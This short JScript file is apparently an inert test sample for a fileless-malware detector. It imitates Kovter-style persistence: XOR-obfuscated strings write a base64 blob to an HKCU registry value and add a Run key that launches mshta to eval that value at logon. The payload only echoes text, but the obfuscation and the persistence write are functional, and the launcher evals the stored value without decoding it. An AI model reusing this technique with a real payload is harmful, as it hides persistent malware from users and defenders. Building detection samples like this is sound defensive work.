// Test dropper written for fileless-milter (inert): Kovter-style registry persistence.
// Run-key path, launcher and payload exist only at run time (XOR-23 char codes, a rotated
// method table); the payload is an inert WScript.Echo.
var k = 23;
function d(a) { var s = ""; for (var i = 0; i < a.length; i++) s += String.fromCharCode(a[i] ^ k); return s; }
function b64(s) { var c = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = ""; for (var i = 0; i < s.length; i += 3) { var n = (s.charCodeAt(i) << 16) | ((s.charCodeAt(i + 1) || 0) << 8) | (s.charCodeAt(i + 2) || 0); o += c.charAt(n >> 18 & 63) + c.charAt(n >> 12 & 63) + c.charAt(n >> 6 & 63) + c.charAt(n & 63); } return o; }
var t = [[64,68,116,101,126,103,99,57,68,127,114,123,123], [69,114,112,64,101,126,99,114], [69,98,121], [86,116,99,126,97,114,79,88,117,125,114,116,99]];
for (var r = 0; r < 3; r++) t.push(t.shift());
var sh = new (this[d(t[0])])(d(t[1]));
var base = d([95,92,84,66,75,68,120,113,99,96,118,101,114]);
var run = base + d([75,90,126,116,101,120,100,120,113,99,75,64,126,121,115,120,96,100,75,84,98,101,101,114,121,99,65,114,101,100,126,120,121,75]) + d(t[3]) + "\\" + d([98,103,115]);
var store = base + d([75,99,114,100,99,100,99,120,101,114,75,115,118,99,118]);
var body = ""; for (var j = 0; j < 8; j++) body += d([64,68,116,101,126,103,99,57,82,116,127,120,63,48,126,121,114,101,99,55,99,114,100,99,55,103,118,110,123,120,118,115,48,62,44,55]);
sh[d(t[2])](store, b64(body), "REG_SZ");
sh[d(t[2])](run, d([122,100,127,99,118,55,125,118,97,118,100,116,101,126,103,99,45]) + d([114,97,118,123,63,121,114,96,55,86,116,99,126,97,114,79,88,117,125,114,116,99,63,53,64,68,116,101,126,103,99,57,68,127,114,123,123,53,62,57,69,114,112,69,114,118,115,63,53,95,92,84,66,75,75,68,120,113,99,96,118,101,114,75,75,99,114,100,99,100,99,120,101,114,75,75,115,118,99,118,53,62,62,44,116,123,120,100,114,63,62]), "REG_SZ");
